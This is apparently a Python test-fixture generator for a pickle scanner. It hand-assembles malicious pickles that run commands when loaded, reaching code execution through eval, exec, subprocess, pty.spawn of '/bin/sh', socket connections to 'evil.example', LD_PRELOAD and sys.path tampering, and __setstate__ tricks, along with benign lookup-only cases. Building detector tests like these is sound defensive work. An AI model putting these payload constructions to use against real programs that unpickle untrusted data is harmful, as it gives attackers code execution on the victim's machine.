#!/usr/bin/python3
"""Writes the fixtures of `mpscope dis --verdict`, assembled opcode by opcode
(nothing here is ever unpickled; pickletools.dis only checks each one is
well formed, and it never loads anything):

  tests/fixtures/verdict/dangerous/*.pickle   loading would run a command or
      code, load code, touch files or the network, or rewrite what the whole
      program shares: every route (direct REDUCE, getattr chains, __import__,
      importlib, INST, OBJ, NEWOBJ, NEWOBJ_EX, BUILD __setstate__, memo gets,
      nested in containers, popped results, partials, operator helpers,
      Python 2 names) at protocols 0-5. Each must be judged `dangerous`.
  tests/fixtures/verdict/lookup/*.pickle      dangerous names only looked up,
      never called. Each must be judged `imports`.

Run from the repository root: /usr/bin/python3 tests/pickle/gen_verdict.py
"""
import io
import os
import pickletools
import struct

OUT = os.path.join("tests", "fixtures", "verdict")


class Asm:
    """A pickle written opcode by opcode for one protocol."""

    def __init__(self, proto):
        self.proto = proto
        self.out = bytearray()
        self.memo = 0
        if proto >= 2:
            self.out += b"\x80" + bytes([proto])

    def op(self, raw):
        self.out += raw
        return self

    def str(self, s):
        data = s.encode("utf-8")
        if self.proto == 0:
            # as pickle writes UNICODE: the line's own specials escaped
            for c, esc in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a"),
                           ("\r", "\\u000d"), ("\x1a", "\\u001a")):
                s = s.replace(c, esc)
            return self.op(b"V" + s.encode("raw_unicode_escape") + b"\n")
        if self.proto >= 4 and len(data) < 256:
            return self.op(b"\x8c" + bytes([len(data)]) + data)
        return self.op(b"X" + struct.pack("<I", len(data)) + data)

    def bytes(self, b):
        if self.proto < 3:
            # protocols 0-2 spell bytes as _codecs.encode(text, 'latin1')
            return self.glob("_codecs", "encode").args(S(b.decode("latin1")), S("latin1")).reduce()
        return self.op(b"C" + bytes([len(b)]) + b)

    def int(self, i):
        if self.proto == 0:
            return self.op(b"I%d\n" % i)
        return self.op(b"K" + bytes([i]))

    def none(self):
        return self.op(b"N")

    def glob(self, module, name):
        if self.proto >= 4:
            return self.str(module).str(name).op(b"\x93")
        return self.op(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def mark(self):
        return self.op(b"(")

    def tuple(self, n):
        """n items already pushed (after a mark() for protocols 0-1 or n > 3)."""
        if self.proto >= 2 and n == 0:
            return self.op(b")")
        if self.proto >= 2 and n <= 3:
            return self.op(bytes([0x84 + n]))
        return self.op(b"t")

    def needs_mark(self, n):
        return self.proto < 2 or n > 3

    def call(self, module, name, *args):
        """module.name(*args); args are callables that push one item each."""
        self.glob(module, name)
        self.args(*args)
        return self.op(b"R")

    def args(self, *args):
        if self.needs_mark(len(args)):
            self.mark()
        for a in args:
            a(self)
        return self.tuple(len(args))

    def reduce(self):
        return self.op(b"R")

    def put(self):
        i = self.memo
        self.memo += 1
        if self.proto >= 4:
            self.op(b"\x94")
        elif self.proto >= 1:
            self.op(b"q" + bytes([i]))
        else:
            self.op(b"p%d\n" % i)
        return i

    def get(self, i):
        if self.proto >= 1:
            return self.op(b"h" + bytes([i]))
        return self.op(b"g%d\n" % i)

    def empty_dict(self):
        return self.op(b"}") if self.proto >= 1 else self.op(b"(d")

    def empty_list(self):
        return self.op(b"]") if self.proto >= 1 else self.op(b"(l")

    def stop(self):
        self.out += b"."
        data = bytes(self.out)
        pickletools.dis(data, out=io.StringIO())  # checks well-formedness; loads nothing
        return data


def S(s):
    return lambda a: a.str(s)


def G(module, name):
    return lambda a: a.glob(module, name)


def I(i):
    return lambda a: a.int(i)


def CALL(module, name, *args):
    return lambda a: a.call(module, name, *args)


CMD = "echo pwned"

DANGEROUS = {}
LOOKUP = {}


def dangerous(name, protos):
    def register(fn):
        for p in protos:
            DANGEROUS["%s-p%d" % (name, p)] = (fn, p)
        return fn
    return register


def lookup(name, protos):
    def register(fn):
        for p in protos:
            LOOKUP["%s-p%d" % (name, p)] = (fn, p)
        return fn
    return register


# ---- direct calls ----------------------------------------------------------

@dangerous("01-reduce-posix-system", range(6))
def _(a):
    return a.call("posix", "system", S(CMD)).stop()


@dangerous("02-reduce-os-system", [0, 3])
def _(a):
    return a.call("os", "system", S(CMD)).stop()


@dangerous("03-builtins-eval", [0, 4])
def _(a):
    return a.call("builtins", "eval", S("__import__('os').system('echo pwned')")).stop()


@dangerous("04-builtins-exec", [1, 5])
def _(a):
    return a.call("builtins", "exec", S("import os; os.system('echo pwned')")).stop()


@dangerous("05-builtins-open", [2])
def _(a):
    return a.call("builtins", "open", S("/etc/passwd")).stop()


@dangerous("06-py2-builtin-eval", [0, 1])
def _(a):
    return a.call("__builtin__", "eval", S("1+1")).stop()


@dangerous("07-py2-commands-getoutput", [0])
def _(a):
    return a.call("commands", "getoutput", S(CMD)).stop()


@dangerous("08-subprocess-check-output", [5])
def _(a):
    a.glob("subprocess", "check_output")
    a.mark().str("sh").str("-c").str(CMD).op(b"l")
    return a.tuple(1).reduce().stop()


@dangerous("09-pickle-loads", [3])
def _(a):
    return a.call("pickle", "loads", lambda x: x.bytes(b"cposix\nsystem\n(S'id'\ntR.")).stop()


@dangerous("10-marshal-loads", [1])
def _(a):
    return a.call("marshal", "loads", lambda x: x.bytes(b"\xe3\x00\x00")).stop()


@dangerous("11-runpy-run-path", [4])
def _(a):
    return a.call("runpy", "run_path", S("/tmp/evil.py")).stop()


@dangerous("12-pty-spawn", [2])
def _(a):
    return a.call("pty", "spawn", S("/bin/sh")).stop()


@dangerous("13-timeit", [0])
def _(a):
    return a.call("timeit", "timeit", S("__import__('os').system('echo pwned')"), I(1)).stop()


@dangerous("14-shutil-rmtree", [5])
def _(a):
    return a.call("shutil", "rmtree", S("/tmp/victim")).stop()


@dangerous("15-socket-create-connection", [3])
def _(a):
    return a.call("socket", "create_connection",
                  lambda x: x.args(S("evil.example"), I(80))).stop()


@dangerous("16-ctypes-cdll", [4])
def _(a):
    return a.call("ctypes", "CDLL", S("libc.so.6")).stop()


@dangerous("17-webbrowser-open", [1])
def _(a):
    return a.call("webbrowser", "open", S("http://evil.example/")).stop()


@dangerous("18-sys-exit", [2])
def _(a):
    return a.call("sys", "exit", I(0)).stop()


# ---- reaching the callable another way ----------------------------------------

@dangerous("20-getattr-import-os", [0, 2, 4])
def _(a):
    # getattr(__import__('os'), 'system')('echo pwned')
    a.glob("builtins", "getattr")
    a.args(CALL("builtins", "__import__", S("os")), S("system"))
    a.reduce()
    return a.args(S(CMD)).reduce().stop()


@dangerous("21-importlib-import-module", [3, 5])
def _(a):
    a.glob("builtins", "getattr")
    a.args(CALL("importlib", "import_module", S("subprocess")), S("getoutput"))
    a.reduce()
    return a.args(S(CMD)).reduce().stop()


@dangerous("22-import-computed-name", [2])
def _(a):
    # __import__(''.join(['o', 's'])): the module's name is only known at load time
    def joined(x):
        x.glob("builtins", "getattr").args(S(""), S("join")).reduce()
        x.mark() if x.needs_mark(1) else None
        x.empty_list().str("o").op(b"a").str("s").op(b"a")
        x.tuple(1).reduce()
    return a.call("builtins", "__import__", joined).stop()


@dangerous("23-dotted-name-through-module", [4])
def _(a):
    # protocol 4 names may be dotted: posixpath.os is os
    return a.call("posixpath", "os.system", S(CMD)).stop()


@dangerous("24-attrgetter", [3])
def _(a):
    # operator.attrgetter('system')(__import__('os'))('echo pwned')
    a.glob("operator", "attrgetter").args(S("system")).reduce()
    a.args(CALL("builtins", "__import__", S("os"))).reduce()
    return a.args(S(CMD)).reduce().stop()


@dangerous("25-methodcaller", [4])
def _(a):
    a.glob("operator", "methodcaller").args(S("system"), S(CMD)).reduce()
    return a.args(CALL("builtins", "__import__", S("os"))).reduce().stop()


@dangerous("26-partial", [2, 5])
def _(a):
    a.glob("functools", "partial").args(G("posix", "system"), S(CMD)).reduce()
    return a.args().reduce().stop()


@dangerous("27-map-into-list", [2])
def _(a):
    a.glob("builtins", "list")
    a.args(CALL("builtins", "map", G("posix", "system"),
                lambda x: x.empty_list().str(CMD).op(b"a")))
    return a.reduce().stop()


@dangerous("28-reduce-getattr-computed", [4])
def _(a):
    # functools.reduce(getattr, ['system'], __import__('os'))('echo pwned')
    a.glob("functools", "reduce")
    a.args(G("builtins", "getattr"), lambda x: x.empty_list().str("system").op(b"a"),
           CALL("builtins", "__import__", S("os")))
    a.reduce()
    return a.args(S(CMD)).reduce().stop()


@dangerous("29-operator-call", [5])
def _(a):
    return a.call("operator", "call", G("posix", "system"), S(CMD)).stop()


@dangerous("30-copyreg-newobj-popen", [1])
def _(a):
    return a.call("copyreg", "__newobj__", G("subprocess", "Popen"), S(CMD)).stop()


@dangerous("31-own-class-handed-system", [2])
def _(a):
    return a.call("__main__", "Runner", G("posix", "system"), S(CMD)).stop()


@dangerous("32-atexit-register", [3])
def _(a):
    return a.call("atexit", "register", G("posix", "system"), S(CMD)).stop()


@dangerous("33-introspection", [4])
def _(a):
    # builtins.getattr.__self__ is the builtins module
    return a.call("builtins", "getattr.__self__.eval", S("1+1")).stop()


# ---- other opcodes -----------------------------------------------------------------

@dangerous("40-inst", [0])
def _(a):
    return a.mark().str(CMD).op(b"iposix\nsystem\n").stop()


@dangerous("41-inst-subprocess", [0])
def _(a):
    return a.mark().str(CMD).op(b"isubprocess\ngetoutput\n").stop()


@dangerous("42-obj", [1])
def _(a):
    return a.mark().glob("posix", "system").str(CMD).op(b"o").stop()


@dangerous("43-newobj-popen", [2, 3])
def _(a):
    a.glob("subprocess", "Popen")
    a.mark().str("sh").str("-c").str(CMD).op(b"l")
    return a.tuple(1).op(b"\x81").stop()


@dangerous("44-newobj-ex-popen", [4, 5])
def _(a):
    a.glob("subprocess", "Popen").str(CMD).tuple(1)
    a.empty_dict().str("shell").op(b"\x88").op(b"s")
    return a.op(b"\x92").stop()


@dangerous("45-build-setstate", [0, 2, 4])
def _(a):
    # o = SimpleNamespace(); o.__dict__ gets __setstate__ = os.system;
    # the next BUILD calls o.__setstate__('echo pwned')
    a.call("types", "SimpleNamespace")
    a.empty_dict().str("__setstate__").glob("posix", "system").op(b"s").op(b"b")
    return a.str(CMD).op(b"b").stop()


@dangerous("46-build-slotstate", [3])
def _(a):
    a.call("types", "SimpleNamespace")
    a.none().empty_dict().str("__setstate__").glob("posix", "system").op(b"s").tuple(2).op(b"b")
    return a.str(CMD).op(b"b").stop()


@dangerous("47-append-through-attribute", [1])
def _(a):
    # BUILD gives the object an `append`; APPEND calls it
    a.call("types", "SimpleNamespace")
    a.empty_dict().str("append").glob("posix", "system").op(b"s").op(b"b")
    return a.str(CMD).op(b"a").stop()


@dangerous("48-append-to-sys-path", [0, 2])
def _(a):
    a.empty_list().glob("sys", "path").str("/tmp/evil").op(b"a").op(b"a")
    return a.stop()


@dangerous("49-setitem-os-environ", [2])
def _(a):
    a.empty_list().glob("os", "environ").str("LD_PRELOAD").str("/tmp/evil.so").op(b"s").op(b"a")
    return a.stop()


@dangerous("50-setattr-module", [2])
def _(a):
    return a.call("builtins", "setattr", CALL("builtins", "__import__", S("sys")),
                  S("path"), lambda x: x.empty_list()).stop()


@dangerous("51-build-on-module", [3])
def _(a):
    a.call("builtins", "__import__", S("os"))
    a.empty_dict().str("system").glob("builtins", "print").op(b"s").op(b"b")
    return a.op(b"0").none().stop()


# ---- where the call sits --------------------------------------------------------------

@dangerous("60-memo-get-later", [1, 3, 5])
def _(a):
    a.glob("posix", "system")
    i = a.put()
    a.op(b"0")  # popped: the name is only in the memo now
    a.empty_list().get(i)
    a.args(S(CMD)).reduce().op(b"a")
    return a.stop()


@dangerous("61-nested-in-dict", [2, 4])
def _(a):
    a.empty_dict().str("outer").empty_list()
    a.call("posix", "system", S(CMD)).op(b"a")
    return a.op(b"s").stop()


@dangerous("62-result-popped", [0, 5])
def _(a):
    a.call("posix", "system", S(CMD)).op(b"0")
    return a.none().stop()


@dangerous("63-inside-pop-mark", [1])
def _(a):
    a.mark().call("posix", "system", S(CMD)).op(b"1")
    return a.none().stop()


@dangerous("64-deep-in-tuple", [3])
def _(a):
    a.empty_list().empty_list().empty_list()
    a.call("posix", "system", S(CMD)).op(b"a").op(b"a").op(b"a")
    return a.stop()


# ---- names only looked up: not dangerous -----------------------------------------------

@lookup("01-global-as-value", range(6))
def _(a):
    return a.glob("posix", "system").stop()


@lookup("02-dict-of-dangerous-names", [0, 2, 4])
def _(a):
    a.empty_dict()
    for module, name in (("builtins", "eval"), ("subprocess", "Popen"), ("os", "system")):
        a.str(name).glob(module, name).op(b"s")
    return a.stop()


@lookup("03-pool-task-shape", [2, 5])
def _(a):
    # (job, i, mapstar, ((posix.system, ['echo']),), {}): the worker would
    # call it after loading; loading only looks it up
    a.mark().int(1).int(0).glob("multiprocessing.pool", "mapstar")
    a.glob("posix", "system").empty_list().str(CMD).op(b"a").tuple(2).tuple(1)
    a.empty_dict().op(b"t")
    return a.stop()


@lookup("04-partial-never-called", [3])
def _(a):
    return a.call("functools", "partial", G("posix", "system"), S(CMD)).stop()


def main():
    for sub, table in (("dangerous", DANGEROUS), ("lookup", LOOKUP)):
        folder = os.path.join(OUT, sub)
        os.makedirs(folder, exist_ok=True)
        for old in os.listdir(folder):
            if old.endswith(".pickle"):
                os.remove(os.path.join(folder, old))
        for name, (fn, proto) in sorted(table.items()):
            with open(os.path.join(folder, name + ".pickle"), "wb") as fh:
                fh.write(fn(Asm(proto)))
        print("%s: %d pickles" % (folder, len(table)))


if __name__ == "__main__":
    main()
